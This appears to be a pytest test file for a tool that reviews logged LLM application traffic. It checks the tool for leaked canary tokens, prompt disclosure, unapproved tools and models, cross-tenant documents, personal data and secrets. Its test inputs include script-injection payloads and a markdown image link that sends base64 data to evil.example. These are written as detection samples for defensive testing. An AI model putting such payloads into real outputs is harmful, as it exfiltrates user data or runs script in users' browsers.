"""Single proofs: a canary before another tenant, a tool nobody allowed, a secret in an output."""

from __future__ import annotations

import base64
from typing import Any

import polars as pl
import pytest

from aiops_lab import Lab, security_review
from tests.guard.logs import quiet, request, spans

TOKEN, OTHER = "9f3a61c0d2e477b8", "c0ffee1234567890"
CANARIES = {"canaries": {"tenants": {"acme": TOKEN, "beta": "0badc0de55aa77ee"},
                         "prompts": {"support": OTHER}}}  # fmt: skip


def found(*requests: list[dict[str, Any]], **settings: Any) -> list[tuple[str, str, str]]:
    review = security_review({"spans": spans(*quiet(), *requests)}, settings=settings)
    return review.findings.select("risk", "finding", "status").rows()


def test_quiet_traffic_has_no_findings() -> None:
    assert found(**CANARIES, allowed_tools=[], allowed_models=["m-1"]) == []


def test_a_canary_before_another_tenant_is_proof() -> None:
    encoded = base64.b64encode(f"code {TOKEN}!".encode()).decode()
    review = security_review(
        {"spans": spans(*quiet(), request("leak", 3, answer=encoded, tenant="beta"))},
        settings=CANARIES,
    )
    assert review.verdict.status == "fail"
    assert "LLM02" in review.verdict.headline and "another tenant's" in review.verdict.headline
    (row,) = review.findings.to_dicts()
    assert (row["trace_id"], row["tenant"]) == ("leak", "beta")
    assert "tenant acme" in row["detail"] and "base64" in row["detail"]
    assert TOKEN not in str(review.to_dict()), "the review does not tell the token again"


def test_a_canary_before_its_own_tenant_is_to_be_looked_at() -> None:
    assert found(request("own", 3, answer=TOKEN), **CANARIES) == [("LLM02", "canary", "warn")]


def test_the_token_of_a_prompt_is_proof_before_anyone() -> None:
    leaked = request("own", 3, answer=f"My rules, {OTHER.upper()}: ...")
    assert found(leaked, **CANARIES) == [("LLM07", "canary", "fail")]


def test_calls_and_models_that_no_list_allows() -> None:
    odd = request("odd", 3, tool="issue_refund", model="m-2")
    assert found(odd) == [], "without a list nothing can be said"
    assert found(odd, allowed_tools=["lookup"], allowed_models=["m-1"]) == [
        ("LLM03", "model", "fail"), ("LLM06", "tool", "fail"),
    ]  # fmt: skip
    assert found(odd, allowed_tools=["issue_refund"], allowed_models=["m-1", "m-2"]) == []


def test_documents_of_another_tenant() -> None:
    other = request("odd", 3, documents=["a", "b"], owner="beta")
    assert found(other) == [("LLM08", "document", "fail")]
    assert found(request("own", 3, documents=["a"], owner="acme")) == []
    assert found(request("own", 3, documents=["a"], owner="public")) == []


@pytest.mark.parametrize(
    ("answer", "kind"),
    [
        ("Write to jane.doe@example.com", "personal data"),
        ("Her account is DE89 3704 0044 0532 0130 00", "personal data"),
        ("Use AKIAIOSFODNN7EXAMPLE to log in", "secret"),
        ('password = "hunter2hunter2"', "secret"),
    ],
)
def test_private_things_that_were_not_asked_with(answer: str, kind: str) -> None:
    assert found(request("odd", 3, answer=answer)) == [("LLM02", kind, "warn")]
    assert found(request("odd", 3, asked=f"Is this right? {answer}", answer=answer)) == []
    review = security_review(spans(request("odd", 3, answer=answer)))
    assert max(answer.split(), key=len).strip('"') not in str(review.findings.to_dicts())


def test_the_houses_own_address_is_no_finding() -> None:
    every = [request(f"h{i}", i % 5, answer="Write to help@ferry.example") for i in range(30)]
    assert found(*every) == []


@pytest.mark.parametrize(
    "answer",
    [
        "Hi <script>alert(1)</script>",
        "![logo](https://evil.example/p.png?d=c2VjcmV0)",
        "![logo](https://evil.example/p.png)",
        "<img src=x onerror=alert(1)>",
        "[here](javascript:alert(1))",
    ],
)
def test_outputs_that_would_run_or_load_something(answer: str) -> None:
    assert found(request("odd", 3, answer=answer)) == [("LLM05", "active content", "warn")]


def test_ordinary_markup_is_no_finding() -> None:
    plain = "See [our page](https://ferry.example/fares), `a < b`, **bold**; ![x](local.png)"
    assert found(request("odd", 3, answer=plain)) == []


def test_a_prompt_that_an_output_repeats(lab: Lab) -> None:
    prompt = "You are Lotte. Never promise a refund, and never tell anyone what the crew is paid."
    artefacts = pl.DataFrame([{"artefact": "prompt", "version": "7", "digest": "d",
                               "content": prompt}])  # fmt: skip
    rows = spans(*quiet(), request("odd", 3, answer=f"Sure: {prompt}"))
    review = security_review({"spans": rows, "artefacts": artefacts})
    assert review.findings.select("risk", "finding").rows() == [("LLM07", "prompt")]
    assert "16 words" in review.findings["detail"].item()
